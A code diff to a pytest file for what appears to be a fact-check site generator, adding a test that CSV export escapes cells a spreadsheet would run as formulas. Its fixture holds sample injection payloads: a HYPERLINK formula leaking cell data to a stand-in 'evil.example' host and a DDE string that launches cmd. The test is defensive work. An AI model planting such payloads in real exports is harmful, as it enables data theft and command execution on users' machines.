@@ -10,6 +10,8 @@ Exit codes: 0 all is well, 1 the inputs have errors, 2 the tool could not run.  
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import pickle
@@ -644,3 +646,27 @@ def test_the_write_stage_refuses_links_on_its_own(world):
     with world.untouched(), pytest.raises(UnsafePathError) as info:
         write_tree(world.docs, {"index.md": b"overwritten\n"})
     assert "it is a symbolic link" in info.value.message and info.value.hint
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(world):
+    world.p.claim("formula", """\
+statement: '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
+claimant: '@SUM(1+1)*cmd|" /C calc"!A0'
+date: 2021-12-07
+rating: "false"
+summary: "-2+3 is what the post said."
+tags: ["+cmd", "Economy"]
+""")
+    world.p.claim("plain", GOOD)
+    assert cli(world, "generate").exit_code == 0
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO((world.docs / "claims.csv").read_text("utf-8")))}
+    row = rows["formula"]
+    assert row["statement"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
+    assert row["claimant"] == '\'@SUM(1+1)*cmd|" /C calc"!A0'
+    assert row["summary"] == "'-2+3 is what the post said."
+    assert row["tags"] == "'+cmd; Economy"
+    assert rows["plain"]["statement"] == "The sky is green."  # other text is written as it is
+    for r in rows.values():
+        assert not any(v.startswith(("=", "+", "-", "@")) for v in r.values()), r
+    # the claim's page still shows the statement as written
+    assert "=HYPERLINK(" in (world.docs / "claims" / "formula.md").read_text("utf-8")
